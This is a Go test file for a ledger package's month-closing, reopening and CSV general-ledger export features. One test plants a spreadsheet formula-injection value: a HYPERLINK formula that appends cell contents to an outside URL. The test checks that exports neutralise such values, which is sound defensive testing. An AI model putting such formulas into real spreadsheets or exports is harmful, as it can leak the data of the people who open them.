package ledger_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"tandem/bss/ledger"
	"tandem/kit/access"
	"tandem/kit/civil"
	"tandem/kit/fault"
	"tandem/kit/money"
	"tandem/kit/store"
	"tandem/kit/store/storetest"
	"tandem/kit/tmf"
)

var (
	ann   = store.Scope{Tenant: "host", Actor: "user:ann"}
	bert  = store.Scope{Tenant: "host", Actor: "user:bert"}
	cleo  = store.Scope{Tenant: "host", Actor: "user:cleo"}
	march = civil.Date{Year: 2026, Month: time.March, Day: 1}
)

// asks asks to close or reopen a month, and gives the id.
func asks(t *testing.T, db *store.DB, who store.Scope, action, period, reason string) (id string, err error) {
	t.Helper()
	p := &ledger.PeriodClose{Period: period, Action: action, Reason: reason}
	err = db.Write(t.Context(), who, func(tx *store.Tx) error { return ledger.PeriodCloses.OnPost(tx, p) })
	return p.ID, err
}

// decides sets the state of a request.
func decides(ctx context.Context, db *store.DB, who store.Scope, id, state string) error {
	return db.Write(ctx, who, func(tx *store.Tx) error {
		old, err := ledger.PeriodCloses.Lock(tx, id)
		if err != nil {
			return err
		}
		p, err := ledger.PeriodCloses.Copy(old)
		if err != nil {
			return err
		}
		p.State = state
		return ledger.PeriodCloses.OnPatch(tx, old, p)
	})
}

// closed closes a month by two people.
func closed(t *testing.T, db *store.DB, period string) {
	t.Helper()
	id, err := asks(t, db, ann, "", period, "")
	must(t, err)
	must(t, decides(t.Context(), db, bert, id, ledger.CloseDone))
}

func TestAMonthIsClosedByFourEyes(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		_, err := asks(t, db, ann, ledger.ActClose, "2026-03", "")
		refused(t, err, "noBooks")
		must(t, post(t, db, bill("bill/1", 1000, 190)))
		_, err = asks(t, db, ann, ledger.ActClose, "2026-3", "")
		refused(t, err, "badPeriod")
		_, err = asks(t, db, ann, ledger.ActClose, db.Now().Format("2006-01"), "")
		refused(t, err, "monthNotOver")
		_, err = asks(t, db, ann, ledger.ActReopen, "2026-03", "Wrong bill")
		refused(t, err, "notTheLast")
		id, err := asks(t, db, ann, ledger.ActClose, "2026-03", "")
		must(t, err)
		_, err = asks(t, db, cleo, ledger.ActClose, "2026-03", "")
		refused(t, err, "requestedAlready")
		refused(t, decides(t.Context(), db, ann, id, ledger.CloseDone), "fourEyes")
		must(t, decides(t.Context(), db, bert, id, ledger.CloseDone))
		refused(t, decides(t.Context(), db, cleo, id, ledger.CloseRejected), "illegalMove")
		_, err = asks(t, db, ann, ledger.ActClose, "2026-03", "")
		refused(t, err, "monthClosed")
		reading(t, db, func(tx *store.Tx) error {
			p, err := ledger.PeriodCloses.Get(tx, id)
			if err == nil && (p.DecidedBy != "user:bert" || len(p.Total) != 1 || p.Total[0].Debit.Minor != 1190 || p.Total[0].Credit.Minor != 1190 || p.Total[0].Entries != 3) {
				t.Errorf("closed as %+v", p)
			}
			return err
		})
	})
}

// TestMonthsAreClosedOneAfterTheOther: who approves March does not close January with it.
func TestMonthsAreClosedOneAfterTheOther(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		january := bill("bill/0", 700, 0)
		january.Date, january.Entries = march.AddMonths(-2), january.Entries[:2]
		must(t, post(t, db, january, bill("bill/1", 1000, 190)))
		_, err := asks(t, db, ann, "", "2026-03", "")
		refused(t, err, "monthBeforeOpen")
		if !strings.Contains(err.Error(), "2026-01") {
			t.Errorf("which one? %v", err)
		}
		refused(t, db.Write(t.Context(), ann, func(tx *store.Tx) error { return ledger.Close(tx, "acme", march) }), "monthBeforeOpen")
		closed(t, db, "2026-01")
		closed(t, db, "2026-03") // nothing is booked in February
		reading(t, db, func(tx *store.Tx) error {
			to, err := ledger.ClosedTo(tx, "acme")
			if to != march.AddMonths(1).AddDays(-1) {
				t.Errorf("closed up to %s", to)
			}
			return err
		})
	})
}

func TestAMonthIsOpenedAgainForAReason(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		must(t, post(t, db, bill("bill/1", 1000, 190)))
		closed(t, db, "2026-02")
		closed(t, db, "2026-03")
		_, err := asks(t, db, ann, ledger.ActReopen, "2026-03", " ")
		refused(t, err, "noReason")
		_, err = asks(t, db, ann, ledger.ActReopen, "2026-02", "Wrong bill")
		refused(t, err, "notTheLast")
		id, err := asks(t, db, ann, ledger.ActReopen, "2026-03", "Wrong bill")
		must(t, err)
		refused(t, decides(t.Context(), db, ann, id, ledger.CloseDone), "fourEyes")
		must(t, decides(t.Context(), db, cleo, id, ledger.CloseDone))
		must(t, post(t, db, bill("bill/2", 500, 95))) // March is open
		feb := bill("bill/3", 500, 95)
		feb.Date = march.AddDays(-1)
		refused(t, post(t, db, feb), "monthClosed")
		closed(t, db, "2026-03")
		reading(t, db, func(tx *store.Tx) error {
			var actor, reason string
			if err := tx.Row("SELECT reopened_by, reason FROM ledger_closed WHERE tenant = $1 AND number = 2").Scan(&actor, &reason); err != nil {
				return err
			}
			if actor != "user:cleo" || reason != "Wrong bill" {
				t.Errorf("opened again by %s: %s", actor, reason)
			}
			var audited int64
			if err := tx.Row("SELECT count(*) FROM access_audit WHERE tenant = $1 AND action IN ('ledger.close', 'ledger.reopen')").Scan(&audited); err != nil {
				return err
			}
			if audited != 4 {
				t.Errorf("%d closings and openings in the audit, want 4", audited)
			}
			found, err := ledger.Audit(tx)
			if len(found) > 0 {
				t.Errorf("audit: %v", found)
			}
			return err
		})
	})
}

// TestLateBookings: what happened in a closed month goes to the first open day if it may,
// and says when it happened.
func TestLateBookings(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		must(t, post(t, db, bill("bill/1", 1000, 190)))
		closed(t, db, "2026-03")
		late := bill("bill/2", 500, 95)
		refused(t, post(t, db, late), "monthClosed")
		late.Shift = true
		must(t, post(t, db, late))
		reading(t, db, func(tx *store.Tx) error {
			got, err := ledger.Get(tx, "bill/2")
			if err != nil {
				return err
			}
			var dated string
			err = tx.Row("SELECT dated FROM ledger_late WHERE tenant = $1 AND name = 'bill/2'").Scan(&dated)
			if got.Date != march.AddMonths(1) || dated != day.String() {
				t.Errorf("booked on %s, dated %s", got.Date, dated)
			}
			return err
		})
	})
}

func export(t *testing.T, db *store.DB, month civil.Date, by string) (string, ledger.Exported, error) {
	t.Helper()
	var out bytes.Buffer
	var got ledger.Exported
	err := db.Snapshot(t.Context(), host, func(tx *store.Tx) (err error) {
		got, err = ledger.Export(tx, &out, "acme", month, by)
		return err
	})
	return out.String(), got, err
}

const head = "record,entity,period,closing,date,glAccount,name,account,party,booking,text,currency,debit,credit,entries\n"

func TestAClosedMonthIsExportedAlwaysTheSame(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		second := bill("bill/2", 500, 95)
		second.Date = day.AddDays(1)
		must(t, post(t, db, bill("bill/1", 1000, 190), second))
		chart := func(account, gl, name string) {
			must(t, db.Write(t.Context(), ann, func(tx *store.Tx) error {
				return ledger.ChartAccounts.Create(tx, &ledger.ChartAccount{Account: account, GLAccount: gl, Name: name})
			}))
		}
		chart("receivable", "1400", "Trade receivables")
		chart("tax:S19", "3806", "VAT 19 %")
		_, _, err := export(t, db, march, ledger.ByDay)
		refused(t, err, "periodOpen")
		closed(t, db, "2026-03")
		want := map[string]string{
			ledger.ByMonth: head +
				"sum,acme,2026-03,1,2026-03-31,1400,Trade receivables,,,,,EUR,17.85,0.00,2\n" +
				"sum,acme,2026-03,1,2026-03-31,3806,VAT 19 %,,,,,EUR,0.00,2.85,2\n" +
				"sum,acme,2026-03,1,2026-03-31,4400,,,,,,EUR,0.00,15.00,2\n" +
				"total,acme,2026-03,1,,,,,,,,EUR,17.85,17.85,6\n",
			ledger.ByDay: head +
				"sum,acme,2026-03,1,2026-03-14,1400,Trade receivables,,,,,EUR,11.90,0.00,1\n" +
				"sum,acme,2026-03,1,2026-03-14,3806,VAT 19 %,,,,,EUR,0.00,1.90,1\n" +
				"sum,acme,2026-03,1,2026-03-14,4400,,,,,,EUR,0.00,10.00,1\n" +
				"sum,acme,2026-03,1,2026-03-15,1400,Trade receivables,,,,,EUR,5.95,0.00,1\n" +
				"sum,acme,2026-03,1,2026-03-15,3806,VAT 19 %,,,,,EUR,0.00,0.95,1\n" +
				"sum,acme,2026-03,1,2026-03-15,4400,,,,,,EUR,0.00,5.00,1\n" +
				"total,acme,2026-03,1,,,,,,,,EUR,17.85,17.85,6\n",
			ledger.ByEntry: head +
				"entry,acme,2026-03,1,2026-03-14,1400,Trade receivables,receivable,a1,bill/1,Bill,EUR,11.90,0.00,1\n" +
				"entry,acme,2026-03,1,2026-03-14,4400,,revenue:4400,,bill/1,Bill,EUR,0.00,10.00,1\n" +
				"entry,acme,2026-03,1,2026-03-14,3806,VAT 19 %,tax:S19,,bill/1,Bill,EUR,0.00,1.90,1\n" +
				"entry,acme,2026-03,1,2026-03-15,1400,Trade receivables,receivable,a1,bill/2,Bill,EUR,5.95,0.00,1\n" +
				"entry,acme,2026-03,1,2026-03-15,4400,,revenue:4400,,bill/2,Bill,EUR,0.00,5.00,1\n" +
				"entry,acme,2026-03,1,2026-03-15,3806,VAT 19 %,tax:S19,,bill/2,Bill,EUR,0.00,0.95,1\n" +
				"total,acme,2026-03,1,,,,,,,,EUR,17.85,17.85,6\n",
		}
		sums := map[string]string{}
		for by, text := range want {
			got, made, err := export(t, db, march, by)
			must(t, err)
			if got != text {
				t.Errorf("by %s:\n%s\nwant\n%s", by, got, text)
			}
			sums[by] = made.SHA256
		}
		// Neither the chart nor what comes late changes a month that is closed.
		chart("revenue", "8000", "Sales")
		late := bill("bill/3", 900, 0)
		late.Shift, late.Entries = true, late.Entries[:2]
		must(t, post(t, db, late))
		for by, sum := range sums {
			if _, made, err := export(t, db, march, by); err != nil || made.SHA256 != sum {
				t.Errorf("by %s exported again: %v, SHA-256 %s, was %s", by, err, made.SHA256, sum)
			}
		}
		_, _, err = export(t, db, march, "week")
		refused(t, err, "badGrouping")
	})
}

// TestNoTextIsAFormula: a spreadsheet program shows what a customer or clerk has written and
// does not work it out.
func TestNoTextIsAFormula(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		b := bill("@bill", 1000, 190)
		b.What, b.Entries[0].Party = `=HYPERLINK("https://example.com/?"&A1,"Bill")`, "-a1"
		must(t, post(t, db, b))
		must(t, db.Write(t.Context(), ann, func(tx *store.Tx) error {
			return ledger.ChartAccounts.Create(tx, &ledger.ChartAccount{Account: "receivable", GLAccount: "1400", Name: "+1 = 2"})
		}))
		closed(t, db, "2026-03")
		text, _, err := export(t, db, march, ledger.ByEntry)
		must(t, err)
		if want := `entry,acme,2026-03,1,2026-03-14,1400,'+1 = 2,receivable,'-a1,'@bill,"'=HYPERLINK(""https://example.com/?""&A1,""Bill"")",EUR,11.90,0.00,1`; !strings.Contains(text, want+"\n") {
			t.Errorf("%s\nwant\n%s", text, want)
		}
	})
}

// TestTheBooksOverHTTP walks the API: trial balance, entries page by page, an export asked
// for twice and fetched, a month that was changed by hand.
func TestTheBooksOverHTTP(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		var all []ledger.Transaction
		for n := range 7 {
			all = append(all, bill(fmt.Sprintf("bill/%d", n), 1000, 190))
		}
		must(t, post(t, db, all...))
		closed(t, db, "2026-03")
		who := func(*http.Request) (*tmf.Caller, error) {
			return &tmf.Caller{Tenant: "host", Actor: "user:ann", Allow: func(string, string, string) bool { return true }}, nil
		}
		mux := http.NewServeMux()
		mux.Handle("/", tmf.NewServer(db, ledger.Kinds(), tmf.Options{Authenticate: who}))
		(&ledger.Server{DB: db, Authenticate: who}).Routes(mux, func(h http.Handler) http.Handler { return h })
		ask := func(method, path, body string) (*httptest.ResponseRecorder, map[string]any) {
			r := httptest.NewRequest(method, ledger.API.Base+path, strings.NewReader(body))
			if body != "" {
				r.Header.Set("Content-Type", "application/json")
			}
			w := httptest.NewRecorder()
			mux.ServeHTTP(w, r)
			out := map[string]any{}
			_ = json.Unmarshal(w.Body.Bytes(), &out) // a list, or a file
			return w, out
		}
		if w, b := ask("GET", "/trialBalance?date=2026-03-31", ""); w.Code != 200 || len(b["line"].([]any)) != 3 || b["closedTo"] != "2026-03-31" {
			t.Errorf("trial balance: %d %s", w.Code, w.Body)
		}
		if w, b := ask("GET", "/trialBalance?legalEntity.id=nobody", ""); w.Code != 400 || b["code"] != "noBooks" {
			t.Errorf("trial balance of nobody: %d %s", w.Code, w.Body)
		}
		seen := map[string]bool{}
		for offset := 0; offset < 21; offset += 5 {
			w, _ := ask("GET", fmt.Sprintf("/entry?legalEntity.id=acme&date.gte=2026-03-01&limit=5&offset=%d", offset), "")
			var page []struct{ ID, Href, Account string }
			if err := json.Unmarshal(w.Body.Bytes(), &page); err != nil || w.Header().Get("X-Total-Count") != "21" {
				t.Fatalf("entries: %v %s %s", err, w.Header().Get("X-Total-Count"), w.Body)
			}
			for _, e := range page {
				seen[e.ID] = true
				if w, one := ask("GET", strings.TrimPrefix(e.Href, ledger.API.Base), ""); w.Code != 200 || one["account"] != e.Account {
					t.Errorf("entry %s: %d %s", e.ID, w.Code, w.Body)
				}
			}
		}
		if len(seen) != 21 {
			t.Errorf("%d entries in pages, want 21", len(seen))
		}
		_, first := ask("POST", "/generalLedgerExport", `{"period":"2026-03"}`)
		w, again := ask("POST", "/generalLedgerExport", `{"period":"2026-03","legalEntity":{"id":"acme"},"by":"day"}`)
		if w.Code != 201 || first["id"] != "acme.2026-03.day.1" || again["id"] != first["id"] || again["createdDate"] != first["createdDate"] {
			t.Errorf("exported twice: %v, then %d %s", first, w.Code, w.Body)
		}
		w, _ = ask("GET", "/generalLedgerExport/acme.2026-03.day.1/content", "")
		lines, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
		if w.Code != 200 || err != nil || len(lines) != 5 || w.Header().Get("Tandem-SHA256") != first["sha256"] {
			t.Errorf("the file: %d %v %s", w.Code, err, w.Body)
		}
		if w, b := ask("GET", "/generalLedgerExport/acme.2026-03.day.7/content", ""); w.Code != 404 || b["code"] != "notFound" {
			t.Errorf("no such export: %d %s", w.Code, w.Body)
		}
		// A clerk with a database client.
		must(t, db.Write(t.Context(), host, func(tx *store.Tx) error {
			tx.Insert("INSERT INTO ledger_entry (tenant, name, line, entity, currency, on_date, account, party, amount)", "bill/0", int64(8), "acme", "EUR", "2026-03-14", "bank:x", "", int64(5))
			tx.Insert("INSERT INTO ledger_entry (tenant, name, line, entity, currency, on_date, account, party, amount)", "bill/0", int64(9), "acme", "EUR", "2026-03-14", "badDebt", "", int64(-5))
			return nil
		}))
		if w, b := ask("POST", "/generalLedgerExport", `{"period":"2026-03"}`); w.Code != 409 || b["code"] != "exportDiffers" {
			t.Errorf("exported what was changed: %d %s", w.Code, w.Body)
		}
		func() {
			defer func() {
				if recover() != http.ErrAbortHandler {
					t.Error("a file that is not the exported one was given out whole")
				}
			}()
			ask("GET", "/generalLedgerExport/acme.2026-03.day.1/content", "")
		}()
	})
}

func TestTheChartKnowsTheBooks(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		for _, c := range []struct{ account, gl, code string }{
			{"revenue:4400", "8400", ""}, {"revenue", "8000", ""}, {"revenue:4400", "8401", "accountInChart"}, {"sales", "1", "unknownAccount"},
			{"receivable:7", "1", "unknownAccount"}, {"revenue:", "1", "unknownAccount"}, {"deposits", "a b", "badGlAccount"},
		} {
			err := db.Write(t.Context(), ann, func(tx *store.Tx) error {
				return ledger.ChartAccounts.Create(tx, &ledger.ChartAccount{Account: c.account, GLAccount: c.gl})
			})
			if c.code == "" {
				must(t, err)
				continue
			}
			refused(t, err, c.code)
		}
	})
}

// TestTwoCloseAtOnce: requests of two people are done by two others at the same time.
func TestTwoCloseAtOnce(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		b := bill("bill/1", 1000, 190)
		b.Date = march.AddMonths(1) // March needs no closing before April
		must(t, post(t, db, b))
		id, err := asks(t, db, ann, "", "2026-03", "")
		must(t, err)
		april, err := asks(t, db, ann, "", "2026-04", "")
		must(t, err)
		var wg sync.WaitGroup
		for n := range 8 {
			wg.Go(func() {
				who, what := []store.Scope{bert, cleo}[n%2], []string{id, april}[n/2%2]
				err := decides(t.Context(), db, who, what, ledger.CloseDone)
				var f *fault.Error
				if err != nil && !errors.Is(err, store.ErrStale) && (!errors.As(err, &f) || f.Code != "monthClosed") {
					t.Error(err)
				}
			})
		}
		wg.Wait()
		reading(t, db, func(tx *store.Tx) error {
			to, err := ledger.ClosedTo(tx, "acme")
			if err != nil {
				return err
			}
			var n, distinct int64
			if err := tx.Row("SELECT count(*), count(DISTINCT closed_to) FROM ledger_closed WHERE tenant = $1").Scan(&n, &distinct); err != nil {
				return err
			}
			if to != (civil.Date{Year: 2026, Month: time.April, Day: 30}) || n != distinct || n < 1 || n > 2 {
				t.Errorf("closed up to %s by %d closings of %d months", to, n, distinct)
			}
			found, err := ledger.Audit(tx)
			if len(found) > 0 {
				t.Errorf("audit: %v", found)
			}
			return err
		})
	})
}

// TestExportsAddUp books at random: every export balances, has the same turnover whatever
// its lines are sums of, and the months together are the trial balance.
func TestExportsAddUp(t *testing.T) {
	each(t, func(t *testing.T, db *store.DB) {
		seed := rand.Uint64()
		t.Logf("seed %d", seed)
		r := rand.New(rand.NewPCG(seed, 2))
		var all []ledger.Transaction
		for n := range 150 {
			b := bill(fmt.Sprintf("t/%d", n), r.Int64N(2_000_000)-1_000_000, r.Int64N(1000))
			b.Entries[1].Account = ledger.Of(ledger.Revenue, fmt.Sprint(4400+r.IntN(4)))
			b.Date = day.AddDays(r.IntN(80))
			if b.Currency = money.EUR; r.IntN(3) == 0 {
				b.Currency = money.JPY
			}
			all = append(all, b)
		}
		must(t, post(t, db, all...))
		for _, month := range []string{"2026-03", "2026-04", "2026-05"} {
			closed(t, db, month)
		}
		sums := map[string]int64{} // of all months, by account and currency
		for month := march; month.Month <= time.May; month = month.AddMonths(1) {
			_, byEntry, err := export(t, db, month, ledger.ByEntry)
			must(t, err)
			for _, by := range []string{ledger.ByDay, ledger.ByMonth} {
				text, made, err := export(t, db, month, by)
				must(t, err)
				if fmt.Sprint(made.Total) != fmt.Sprint(byEntry.Total) {
					t.Errorf("%s by %s: %v, by entry %v", month, by, made.Total, byEntry.Total)
				}
				if by == ledger.ByDay {
					continue
				}
				lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
				must(t, err)
				for _, l := range lines[1:] {
					c, err := money.ParseCurrency(l[11])
					must(t, err)
					debit, err := money.ParseAmount(l[12], c)
					must(t, err)
					credit, err := money.ParseAmount(l[13], c)
					must(t, err)
					if l[0] == "sum" {
						sums[l[5]+" "+l[11]] += debit.Minor - credit.Minor
					}
				}
			}
			for _, x := range byEntry.Total {
				if x.Debit != x.Credit {
					t.Errorf("%s does not balance: %v", month, x)
				}
			}
		}
		reading(t, db, func(tx *store.Tx) error {
			trial, err := ledger.Trial(tx, "acme", march.AddMonths(3).AddDays(-1))
			for _, s := range trial {
				if key := strings.TrimPrefix(s.Account, "revenue:") + " " + s.Currency; sums[key] != s.Amount {
					t.Errorf("%s: the months come to %d, the trial balance to %d", key, sums[key], s.Amount)
				}
			}
			return err
		})
	})
}

// closerEnv makes this test binary a process that closes a month and is killed at a commit.
const closerEnv = "TANDEM_LEDGER_CLOSER"

type closer struct {
	Path, URL, Request string
	Durable            bool
}

func TestMain(m *testing.M) {
	if doc := os.Getenv(closerEnv); doc != "" {
		fmt.Fprintln(os.Stderr, closeAndDie(doc))
		os.Exit(1)
	}
	os.Exit(m.Run())
}

func closeAndDie(doc string) error {
	var c closer
	if err := json.Unmarshal([]byte(doc), &c); err != nil {
		return err
	}
	armed := false
	db, err := store.Open(context.Background(), store.Config{Path: c.Path, URL: c.URL, Around: func(durable bool) {
		if armed && durable == c.Durable {
			_ = syscall.Kill(os.Getpid(), syscall.SIGKILL) // nothing comes after it
			select {}
		}
	}})
	if err != nil {
		return err
	}
	armed = true
	return decides(context.Background(), db, bert, c.Request, ledger.CloseDone)
}

// TestKilledWhileClosing: a month is closed with all its sums, or not at all, and then
// closes and exports as if nothing had been.
func TestKilledWhileClosing(t *testing.T) {
	for _, engine := range []store.Dialect{store.SQLite, store.Postgres} {
		for _, durable := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/durable=%v", engine, durable), func(t *testing.T) {
				c := storetest.Config(t, engine)
				open := func() *store.DB {
					db := storetest.OpenConfig(t, c, append([]store.Schema{tmf.Schema(), access.Schema()}, ledger.Schemas...)...)
					must(t, tmf.Migrate(t.Context(), db, ledger.Kinds()))
					return db
				}
				db := open()
				must(t, post(t, db, bill("bill/1", 1000, 190)))
				id, err := asks(t, db, ann, "", "2026-03", "")
				must(t, err)
				db.Close()
				doc, err := json.Marshal(closer{Path: c.Path, URL: c.URL, Request: id, Durable: durable})
				must(t, err)
				cmd := exec.CommandContext(t.Context(), os.Args[0])
				cmd.Env = append(os.Environ(), closerEnv+"="+string(doc))
				out, err := cmd.CombinedOutput()
				var exit *exec.ExitError
				if !errors.As(err, &exit) || exit.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
					t.Fatalf("the closer was not killed: %v %s", err, out)
				}
				db = open()
				reading(t, db, func(tx *store.Tx) error {
					p, err := ledger.PeriodCloses.Get(tx, id)
					if err != nil {
						return err
					}
					to, err := ledger.ClosedTo(tx, "acme")
					if err != nil {
						return err
					}
					found, err := ledger.Audit(tx)
					if done := p.State == ledger.CloseDone; done != to.Valid() || done != durable && engine == store.SQLite || len(found) > 0 {
						t.Errorf("the request is %s, the books are closed up to %s; audit %v", p.State, to, found)
					}
					return err
				})
				if err := decides(t.Context(), db, cleo, id, ledger.CloseDone); err != nil {
					t.Fatal(err)
				}
				text, made, err := export(t, db, march, ledger.ByMonth)
				must(t, err)
				if made.Closing != 1 || !strings.Contains(text, "total,acme,2026-03,1,,,,,,,,EUR,11.90,11.90,3\n") {
					t.Errorf("exported as\n%s", text)
				}
			})
		}
	}
}
